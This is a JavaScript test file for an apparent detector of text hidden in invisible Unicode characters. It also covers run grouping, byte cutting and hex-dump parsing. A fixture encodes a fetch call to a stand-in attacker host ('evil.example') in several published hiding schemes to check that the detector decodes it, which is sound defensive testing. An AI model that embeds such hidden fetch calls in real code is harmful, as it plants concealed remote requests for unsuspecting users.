// The findings of the page in words: what follows each other is one run, with the text that it spells. Where it cuts files, and how it reads dumps.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { dialectCut } from '../page/cut.js';
import { parseDump } from '../page/dump.js';
import { runs, spelled } from '../page/runs.js';

const code = "fetch('//evil.example/x')";
const bytes = [...new TextEncoder().encode(code)];

test('published ways to hide text are read', () => {
  const bits = (width, zero, one) => bytes.flatMap((byte) => Array.from({ length: width }, (_, i) => ((byte >> (width - 1 - i)) & 1 ? one : zero)));
  for (const run of [bytes.map((b) => (b < 16 ? 0xfe00 + b : 0xe0100 + b - 16)), bytes.map((b) => 0xe0100 + b), bytes.map((b) => 0xe0000 + b),
    [0xe0001, ...bytes.map((b) => 0xe0000 + b), 0xe007f], bytes.flatMap((b) => [0xfe00 + (b >> 4), 0xfe00 + (b & 15)]),
    bits(8, 0x200b, 0x200c), bits(8, 0x200d, 0x2063), bits(7, 0x200c, 0x200b)]) assert.equal(spelled(run), code);
  for (const run of [[], [0xfe0f], [0xfe0f, 0xfe0f, 0xfe0f], [0, 0, 0, 0, 0, 0, 0, 0], [0x202e, 0x2066], [0x200b, 0x200c, 0x200d]]) assert.equal(spelled(run), '');
});

test('characters that follow each other are one run', () => {
  const found = [[0, 0x202e], [3, 0x2066], [7, 0], [8, 0], [20, 0xe0101], [24, 0xe0102]].map(([offset, codePoint]) => ({ offset, codePoint }));
  assert.deepEqual(runs(found).map(({ offset, codePoints }) => [offset, codePoints.length]), [[0, 2], [7, 2], [20, 2]]);
});

test('a file is cut between characters of all dialects', () => {
  // In CESU-8 of nothing but emoji, which was cut anywhere, some became U+FFFD.
  const sequences = [[0x61], [0xc3, 0xa9], [0xe4, 0xb8, 0x96], [0xed, 0x9f, 0xbf], [0xed, 0xa0, 0xbd, 0xed, 0xb8, 0x80], [0xed, 0xaf, 0xbf, 0xed, 0xbf, 0xbf], [0xf0, 0x9f, 0x98, 0x80]];
  for (const before of sequences) {
    for (const last of sequences) {
      const bytes = Uint8Array.from([...before, ...before, ...last]);
      for (let length = before.length + 6; length <= bytes.length; length++) {
        const cut = dialectCut(bytes.subarray(0, length));
        assert.ok([before.length, 2 * before.length].includes(cut) && cut < length, `${bytes} ${length} ${cut}`);
      }
    }
  }
  for (const lone of [[0xed, 0xa0, 0xbd], [0xed, 0xb8, 0x80]]) assert.equal(dialectCut(Uint8Array.from([...lone, ...lone, ...lone, ...lone])) % 3, 0);
  assert.equal(dialectCut(new Uint8Array(5).fill(0x80)), 5);
});

test('the bytes of a dump are read, each once and in its order, or none', () => {
  const digits = Buffer.from('Hello, dead beef \xe9 12 34\n', 'latin1').toString('hex');
  const dumps = {
    xxd: '00000000: 4865 6c6c 6f2c 2064 6561 6420 6265 6566  Hello, dead beef\r\n00000010: 20e9 2031 3220 3334 0a                   . 12 34.\r\n',
    'xxd -g4': '  00000000: 48656c6c 6f2c2064 65616420 62656566  Hello, dead beef\n  00000010: 20e92031 32203334 0a                 . 12 34.',
    'xxd -d': '00000000: 4865 6c6c 6f2c 2064 6561 6420 6265 6566  Hello, dead beef\n00000016: 20e9 2031 3220 3334 0a                   . 12 34.\n',
    'hexdump -C': '00000000  48 65 6c 6c 6f 2c 20 64  65 61 64 20 62 65 65 66  |Hello, dead beef|\r\n00000010  20 e9 20 31 32 20 33 34  0a                       | . 12 34.|\r\n00000019\r\n',
    'without text': '00000000  48 65 6c 6c 6f 2c 20 64  65 61 64 20 62 65 65 66\n00000010  20 e9 20 31 32 20 33 34  0a\n00000019\n',
    // Of these, the addresses were read as bytes, and what follows the wide gap was not read.
    'od -Ax -tx1z': '000000 48 65 6c 6c 6f 2c 20 64 65 61 64 20 62 65 65 66  >Hello, dead beef<\n000010 20 e9 20 31 32 20 33 34 0a                       > . 12 34.<\n000019\n',
    'od -tx1': '0000000 48 65 6c 6c 6f 2c 20 64 65 61 64 20 62 65 65 66\n0000020 20 e9 20 31 32 20 33 34 0a\n0000031\n',
    Python: '00000000: 48 65 6C 6C 6F 2C 20 64  65 61 64 20 62 65 65 66  Hello, dead beef\n00000010: 20 E9 20 31 32 20 33 34  0A                        . 12 34.\n',
    Wireshark: '0000   48 65 6c 6c 6f 2c 20 64 65 61 64 20 62 65 65 66\n0010   20 e9 20 31 32 20 33 34 0a\n',
    gdb: '0x55555555:\t0x48\t0x65\t0x6c\t0x6c\t0x6f\t0x2c\t0x20\t0x64\n0x5555555d:\t0x65\t0x61\t0x64\t0x20\t0x62\t0x65\t0x65\t0x66\t0x20\t0xe9\t0x20\t0x31\t0x32\t0x20\t0x33\t0x34\t0x0a',
  };
  for (const [name, dump] of Object.entries(dumps)) assert.equal(parseDump(dump).digits?.replaceAll(' ', '').toLowerCase(), digits, name);
  assert.deepEqual(['00000000: 2020 2020 2020  ', '00000010  48 65  |He|'].map((dump) => parseDump(dump).digits), ['202020202020', '4865']);
  // The last byte of a word may be first, or a line is missing, or something else is on it.
  const problems = [
    '00000000: 6c6c6548 64202c6f  Hello, d', '00000000: 00000000 01000000  ........', '0000000 6548 6c6c\n0000004', '0000000 a9c3  >..<\n0000002', '000000 6548 6c6c\n000004', '00000000: 4865 6c6c',
    '00000000: 4865 6c6c  Hell\n00000006: 6f                    o', '00000000: 4865 6c6c  Hell\n00000005: 6f                    o', '00000000: 4865  He\n*\n00000010: 4865  He', '48 65\n00000002: 6c6c  ll', '00000000: 4865  Ha', '00000000: 01001000 01100101  He', '0000  4865 6c6c', '555555: 6c6c6548', '0x555555:\t0x6c6c6548',
    '00000000: 4865 6c6c 6f2c 2064 6561 6420 6265 6566  Hello, dead beef\n00000020: 6f                                       o',
  ];
  for (const dump of problems) assert.ok(typeof parseDump(dump)?.problem === 'string', dump);
  for (const text of ['', '48656c6c 6f20\n776f726c 640a', '4C612063 6166E974', '0000 0001', '00000007', '0000  ', 'deadbeef: ', '2001:0db8:85a3:0000', '00000000 00000000\n00000000 00000000', '48656c6c\n48656c6c', 'E2 82 AC', '0xE282AC']) assert.equal(parseDump(text), null, text);
});
